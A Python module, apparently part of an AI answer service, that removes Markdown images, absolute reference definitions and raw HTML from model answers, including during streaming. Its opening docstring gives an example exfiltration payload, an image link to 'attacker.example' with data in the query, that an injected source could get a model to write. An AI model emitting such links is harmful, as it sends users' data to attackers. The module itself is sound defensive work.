"""Answers carry no active markup: images and raw HTML from the model become plain text.

Answers are shown as Markdown (the web UI's chat renders it, and so may any client of
the API). A model that copies ``![x](http://attacker.example/?q=...)`` or
``<img src=...>`` from a hostile source, or writes it because a source told it to,
makes the reader's browser fetch the attacker's URL, with whatever the URL carries,
without a click. Answers never need pictures (sources are shown beside them, from our
own media links), so :func:`strip_markup` removes every way to ask for one:

- inline Markdown images ``![alt](url)`` become their alt text (brackets removed);
- link reference definitions with an absolute URL (``[x]: http://...``), the other way
  to give an image (``![alt][x]``) its address, are removed with their line;
- raw HTML (tags, comments, declarations, processing instructions) is removed; the
  text between tags stays, as text, so ``<b>42</b>`` still says 42; a ``<`` that could
  still open HTML (``<div`` without its ``>``, an unclosed ``<!--``) loses the ``<``:
  at a line start it would open an HTML block, where nothing is code.

Markdown code (fenced blocks, inline spans, as CommonMark delimits them) is left as it
is: renderers show it literally. Links ``[text](url)`` stay: they fetch nothing until
clicked, and a link from a source can be the answer (whether the URL may appear at all
is the injection check's business, :mod:`generation.injection`). The cost: text like
``a<b and c>d`` reads as a tag and loses ``<b and c>``.

:func:`pending_markup` tells a streaming filter where a construct that may still turn
into markup starts, so the text it lets through is always a prefix of the final one.
"""

from __future__ import annotations

import re


def _within_paragraph(excluded: str) -> str:
    """Any run of characters but ``excluded`` that crosses no blank line."""
    return rf"(?:[^{excluded}\n]|\n(?![ \t]*\n))*"


# Code as CommonMark sees it, and nothing more: a fence opens at a line start (up to three
# spaces in; no backtick after a backtick fence) and runs to a closing fence of its kind
# or to the end; an inline span is a
# run of backticks closed by a run of the same length in the same paragraph. A lone
# backtick is a backtick: taking it for code would let "`![x](http://...)" through.
_CODE = re.compile(
    r"(?m:^ {0,3}(?P<fence>`{3,}(?=[^`\n]*$)|~{3,})[^\n]*"
    r"(?:\n.*?(?:\n {0,3}(?P=fence)[`~]*[ \t]*(?=\n|\Z)|\Z)|\Z))"
    rf"|(?<![`\\])(?P<ticks>`+)(?!`){_within_paragraph('')}?(?<!`)(?P=ticks)(?!`)",
    re.DOTALL,
)


_IMAGE = rf"!\[(?P<alt>{_within_paragraph(']')})\][ \t]?\({_within_paragraph(')')}\)"
_TAG = rf"</?[A-Za-z][A-Za-z0-9:-]*(?:\s{_within_paragraph('<>')})?/?>"
# Comments, CDATA and processing instructions may span blank lines (HTML blocks do).
_OTHER_HTML = r"<!--.*?-->|<!\[CDATA\[.*?\]\]>|<![A-Za-z][^>]*>|<\?.*?\?>"
# A definition line whose destination is absolute: a scheme ("http:", "data:") or "//";
# inside a quote or a list item too ("> [r]: http://...").
_CONTAINERS = r"(?:[ \t]*(?:>|(?:[-+*]|\d{1,9}[.)])(?=[ \t]|$)))*[ \t]*"
_DEFINITION = rf"(?m:^{_CONTAINERS}\[[^\]\n]+\]:[ \t]*<?(?:[A-Za-z][\w+.-]*:|//)[^\n]*(?:\n|\Z))"
# Last, any other "<" that could open HTML ("<div", "<script", "<!--" left open): at a
# line start one opens an HTML block, in which nothing is code and raw HTML runs.
_LONE_OPENER = r"<(?=[A-Za-z/!?])"
_ACTIVE = re.compile(f"{_IMAGE}|{_OTHER_HTML}|{_TAG}|{_DEFINITION}|{_LONE_OPENER}", re.DOTALL)

# What may still become markup at the end of a streamed text.
_OPEN_BLOCK = re.compile(r"<!--(?:(?!-->).)*\Z|<!\[CDATA\[(?:(?!\]\]>).)*\Z|<\?[^?]*\Z", re.DOTALL)
_OPEN_IMAGE = re.compile(r"!(?:\[[^\]]*(?:\][ \t]?(?:\([^)]*)?)?)?\Z")
# Any "<" without a ">" after it: "<<b>img" is a tag once the "<b>" goes.
_OPEN_TAG = re.compile(r"<[^>]*\Z")
_OPEN_DEFINITION = re.compile(rf"(?m:^{_CONTAINERS}\[[^\]\n]*(?:\](?::[^\n]*)?)?\Z)")


def strip_markup(text: str, *, final: bool = True) -> str:
    """``text`` without Markdown images, absolute reference definitions or raw HTML.

    Applied until nothing changes, so removing one construct cannot assemble another
    from its neighbours (``<<b>img ...>``). Each pass only shortens the text. With
    ``final=False`` (a prefix of a streaming answer) a lone ``<`` in the last paragraph
    stays: its ``>`` may be on the way, and :func:`pending_markup` holds it back.
    """
    while True:
        cleaned = _strip_once(text, final=final)
        if cleaned == text:
            return text
        text = cleaned


def _strip_once(text: str, *, final: bool) -> str:
    code = [(m.start(), m.end()) for m in _CODE.finditer(text)]
    open_from = len(text) if final else text.rfind("\n\n") + 1
    out: list[str] = []
    pos = search = 0
    while match := _ACTIVE.search(text, search):
        inside = next((end for start, end in code if start <= match.start() < end), None)
        if inside is not None:
            search = inside
            continue
        if match.group() == "<" and match.start() >= open_from:
            search = match.end()
            continue
        out.append(text[pos : match.start()])
        alt = match.group("alt")
        if alt is not None:
            out.append(re.sub(r"[\[\]!<>]", "", alt))
        pos = search = match.end()
    out.append(text[pos:])
    return "".join(out)


def pending_markup(text: str) -> int:
    """Where a construct that may still become markup begins; ``len(text)`` if none.

    A streaming filter shows only the text before it. Images, tags and definitions
    never span a blank line, so only the last paragraph can hold one that is open; an
    HTML comment can, so one left open anywhere is pending. Code is not markup, but a
    backtick not yet closed is not code either.
    """
    code = [(m.start(), m.end()) for m in _CODE.finditer(text)]
    pending = len(text)
    for opening in re.finditer(r"<[!?]", text):
        if not _in(code, opening.start()) and _OPEN_BLOCK.match(text, opening.start()):
            pending = opening.start()
            break
    start = text.rfind("\n\n") + 1
    for pattern in (_OPEN_IMAGE, _OPEN_DEFINITION):
        found = pattern.search(text, start)
        if found and not _in(code, found.start()):
            pending = min(pending, found.start())
    for angle in re.finditer(r"<", text[start:]):
        at = start + angle.start()
        if not _in(code, at) and _OPEN_TAG.match(text, at):
            pending = min(pending, at)
            break
    return pending


def _in(spans: list[tuple[int, int]], pos: int) -> bool:
    return any(start <= pos < end for start, end in spans)
